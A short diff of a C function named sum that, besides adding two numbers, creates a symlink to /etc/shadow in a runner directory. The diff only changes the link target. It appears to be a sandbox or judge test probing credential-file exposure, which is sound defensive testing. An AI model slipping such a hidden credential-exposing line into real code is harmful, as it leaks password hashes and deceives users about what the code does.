@@ -8,6 +8,6 @@
 
 uint64_t sum(uint64_t a, uint64_t b)
 {
-    symlink("/etc/shadow", "/work/runner");
+    symlink("/etc/shadow", "/box/runner");
     return a + b;
 }
